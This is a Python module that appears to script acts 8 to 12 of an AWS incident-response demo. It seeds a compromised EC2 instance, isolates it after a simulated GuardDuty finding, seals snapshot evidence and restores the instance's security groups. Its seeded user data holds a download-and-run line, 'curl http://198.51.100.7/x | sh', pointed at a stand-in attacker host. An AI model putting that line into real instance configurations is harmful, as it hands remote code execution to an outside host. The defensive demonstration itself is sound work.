"""Acts 8 to 12 of the demo: a compromised instance being isolated, its evidence sealed, and the way back.

No packet flows in the lab: what may pass is what the security groups say, evaluated by `reachability`. The stolen
credentials of the instance are used in earnest, by another process.
"""

import json
import time

from botocore.exceptions import ClientError

from . import demo_attacker, seed, seed_instances, stage, undo
from .case_file import CaseFile
from .demo_identity import finished
from .demo_looks import Failed, act, quote, row, say
from .reachability import Packet, may_pass

_PACKETS = {
    "command and control, 443": Packet("out", "tcp", "198.51.100.7", 443),
    "DNS to a server outside, 53": Packet("out", "udp", "198.51.100.7", 53),
    "a way in, 443": Packet("in", "tcp", "198.51.100.7", 443),
}


def the_server(lab):
    act(8, "A web server of the same account")
    role = seed.role(lab, profile_path="/")
    instance = seed_instances.instance(
        lab, of_role=role, interfaces=2, data_volumes=2, elastic_address=True, target_groups=("instance",),
        user_data="#!/bin/sh\ncurl http://198.51.100.7/x | sh\n",
    )  # fmt: skip
    neighbour = seed_instances.instance(lab, of_role=role)
    say(f"{instance.id}  the victim: two interfaces, three volumes, an Elastic IP address")
    say(f"{neighbour.id}  another instance with the same role")
    return instance, neighbour


def the_intruder(lab, instance, attacker):
    act(9, "An attacker is on it")
    for name, line in attacker.await_all("working").items():
        if line is None:
            raise Failed(f"the attacker's {name} never worked: there was nothing to cut off")
        row(name, "works", "red", ", ".join(line["calls"]))
    say("No packet flows here. What passes is what the rules of its security groups say, evaluated:")
    for name, packet in _PACKETS.items():
        if not passing(lab, instance, packet):
            raise Failed(f"{name} was never possible: there was nothing to cut off")
        row(name, "passes", "red", "by the security groups of its interfaces")


def passing(lab, instance, packet):
    """The interfaces through which such a connection may begin."""
    return [interface for interface in instance.interfaces if may_pass(lab, interface, packet)]


def the_isolation(lab, instance, neighbour, attacker):
    act(10, "GuardDuty notices, and the instance is cut off")
    event = stage.load("crypto-mining-instance", stage.INSTANCE_FUNCTION)
    say("events/contain-instance/crypto-mining-instance.json goes on the event bus, with the ids of the victim.\n ")
    fired = time.monotonic() * 1000
    event_id = lab.put_event(json.loads(stage.about_instance(event, instance)))
    survivors = []
    for name, line in attacker.await_all("refused").items():
        if line is None:
            survivors.append(name)
        else:
            row(name, "refused", "green", f"{line['monotonic_ms'] - fired:4.0f} ms after the finding  {line['code']}")
    invocation = lab.wait_for(lambda: finished(lab, event_id), demo_attacker.SECONDS)
    if invocation["status"] != "ok":
        raise Failed(f"the function ended with {invocation['status']}: {invocation['error']}")
    (result,) = invocation["response"]["results"]
    survivors += [name for name, packet in _PACKETS.items() if passing(lab, instance, packet)]
    if survivors or result["outcome"] != "contained":
        raise Failed(f"still possible: {', '.join(survivors)}; the function says {result['outcome']}")
    for name in _PACKETS:
        row(name, "blocked", "green", "no rule of either interface lets it begin")
    ec2 = lab.client("ec2")
    for name, call in (("terminating it", ec2.terminate_instances), ("stopping it", ec2.stop_instances)):
        row(name, "refused", "green", code_of(call, InstanceIds=[instance.id]))
    lab.client("s3", seed_instances.instance_credentials(lab, neighbour)).list_buckets()
    print()
    say(
        f"EC2 confirmed the isolation {result['cut_off_ms']} ms after the function's first line, "
        f"{result['cut_off_calls']} dependent calls in: the first case in a VPC makes its isolation group, every later "
        "one finds it there. The other instance of the role works as before."
    )
    return result


def code_of(call, **arguments):
    try:
        call(**arguments)
    except ClientError as error:
        return error.response["Error"]["Code"]
    raise Failed(f"{call.__name__} was not refused")


def the_evidence(lab, deployment, instance, result):
    act(11, f"The evidence: {result['case']}")
    s3, bucket = lab.client("s3"), deployment.outputs["CaseBucketName"]
    case = lab.wait_for(lambda: sealed(s3, bucket, result["case"], len(instance.volumes)), 30)
    try:
        case.check_chain()
    except AssertionError as error:
        raise Failed(f"the case's ledger does not hold: {error}") from error
    for piece in case.entry("collected")["objects"]:
        row(piece["name"], f"{piece['bytes']} B".rjust(8), "dim", f"SHA-256 {piece['sha256'][:24]}…")
    devices = {volume: device for device, volume in instance.volumes.items()}
    for snapshot in seals(case):
        hashed = snapshot["hashes"][-1]
        what = f"{hashed['blocks']} blocks, SHA-256 {hashed['root'][:24]}…"
        row(f"snapshot of {devices[snapshot['volume']]}", snapshot["locked"]["lock"], "green", what)
    refusal = code_of(lab.client("ec2").delete_snapshot, SnapshotId=snapshot["snapshot"])
    print()
    say(f"One set of snapshots of every volume, of one moment. Deleting one of them: {refusal}.")
    return case


def sealed(s3, bucket, number, volumes):
    """The case, once every snapshot is sealed."""
    case = CaseFile.read(s3, bucket, number)
    return case if len(seals(case)) == volumes else None


def seals(case):
    return [entry["what"] for entry in case.entries if entry["entry"] == "sealed" and entry["what"]["record"] == "sealed"]


def the_release(lab, instance, case):
    act(12, "The way back")
    lines = case.entry("acted")["undo"]
    commands = [line for line in lines if line.startswith("aws ")]
    say(f"The case has the {len(commands)} lines that put the instance back, those of its interfaces:")
    quote("\n".join(line for line in commands if "modify-network-interface-attribute" in line))
    undo.run(lab, lines)
    if seed_instances.groups_now(lab, instance) != instance.groups:
        raise Failed("the interfaces did not get their groups back")
    print()
    say("Run one after the other: every interface has the groups it had. The snapshots stay locked.")


def play(lab, deployment, ending):
    """The acts, one after the other; how many interfaces were isolated."""
    instance, neighbour = the_server(lab)
    loot = {"credentials of the instance": seed_instances.instance_credentials(lab, instance)}
    attacker = demo_attacker.Attacker(lab, loot)
    ending.callback(attacker.stop)
    the_intruder(lab, instance, attacker)
    result = the_isolation(lab, instance, neighbour, attacker)
    case = the_evidence(lab, deployment, instance, result)
    the_release(lab, instance, case)
    return len(instance.interfaces)
